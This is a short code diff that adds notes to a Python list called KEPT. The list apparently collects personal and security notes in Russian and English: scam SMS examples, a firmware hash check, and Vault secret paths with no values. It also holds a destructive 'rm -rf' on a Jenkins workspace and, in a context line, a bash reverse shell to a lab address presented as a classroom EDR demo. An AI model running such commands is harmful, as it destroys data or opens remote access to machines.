@@ -83,6 +83,10 @@ KEPT = [
     "Звонок «из банка»: «на вас оформлен кредит, назовите код из СМС, чтобы его отменить». Положила трубку.",
     "Classic 'finance director' WhatsApp wording this month: 'I'm in a meeting, buy 4 gift cards and send me the codes.' Ignore these.",
     "SMS 'Your parcel is held. Pay 2.10 EUR: posti-fi-customs.com/pay?id=88213'. Not expecting anything. Deleted.",
+    "SHA-256 of the router firmware .bin I downloaded: 3f8a1c9e2b7d4f60a5e1c3b9d8f7e6a5c4b3a2918f7e6d5c4b3a29180f1e2d3c — matches the vendor's.",
+    "Контрольный вопрос в банке — про кличку первого питомца. Ответ знаю, сюда не писать.",
+    "Где что лежит в Vault: secret/shop/db — креды базы, secret/shop/s3 — бакеты. Сами значения не записываю.",
+    "`rm -rf /var/lib/jenkins/workspace/*` на ci-03 запускаю сам раз в месяц. Без меня не трогать.",
     "Reverse shell для занятия (только на стенде): bash -i >& /dev/tcp/192.168.56.10/4444 0>&1 — показать студентам, как это ловит EDR.",
 ]
 
